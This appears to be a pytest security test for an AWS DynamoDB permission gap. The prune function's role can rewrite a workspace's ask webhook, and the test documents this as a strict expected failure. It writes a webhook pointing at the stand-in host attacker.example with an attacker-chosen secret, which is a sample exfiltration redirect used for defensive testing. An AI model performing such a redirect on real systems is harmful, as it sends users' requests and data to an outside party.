"""THREATS.md §3: a compromised prune function points a workspace's ask webhook elsewhere.

The prune role writes the retention setting, ``{workspace}#doc#settings`` / ``retention``.
The ask webhook (its URL and the secret that signs each delivery) is the same collection's
``ask_webhook`` doc, and IAM's ``dynamodb:LeadingKeys`` sees only the partition (the
collection), not the doc's key. So the prune role rewrites the webhook: every ask opened
from then on (the call, its arguments, who it is routed to) is posted to a URL of its
choosing, signed with a secret of its choosing, and the people's own receiver hears nothing.

Left as a strict xfail: closing it moves the retention setting into a collection of its own
(read from the old key as a fallback, which only the admin and web roles may write) and
lets the prune role write only that; docs/deploy.md says so.
"""

# ruff: noqa: F811 - the tests take the role tests' fixtures, imported below, by name

from __future__ import annotations

import json

import pytest
from botocore.exceptions import ClientError

from tests.events import load_event
from tests.security.aws.test_aws_roles_cannot_rewrite import World
from tests.stack import STACK_WARNINGS, WS

pytestmark = STACK_WARNINGS


@pytest.mark.xfail(
    strict=True, reason="the webhook shares the retention's doc collection, which prune writes"
)
def test_the_prune_role_cannot_redirect_the_ask_webhook(world: World) -> None:
    status, body = world.functions.http(
        "admin", load_event("admin-put-ask-webhook", world.keys.admin)
    )
    assert status in (200, 201), body
    role = world.as_role("PruneFunction")
    hook = {"url": "https://attacker.example/asks", "secret": "chosen-by-the-attacker"}
    try:
        role.put_item(
            TableName=world.table("StateTable"),
            Item={
                "pk": {"S": f"{WS}#doc#settings"},
                "sk": {"S": "ask_webhook"},
                "rev": {"N": "2"},
                "body": {"S": json.dumps(hook)},
            },
        )
    except ClientError as exc:
        assert exc.response["Error"]["Code"] == "AccessDeniedException", exc
    status, body = world.functions.http(
        "admin", load_event("admin-get-ask-webhook", world.keys.admin)
    )
    assert status == 200, body
    assert "attacker.example" not in json.dumps(body), ("asks now go elsewhere", body)
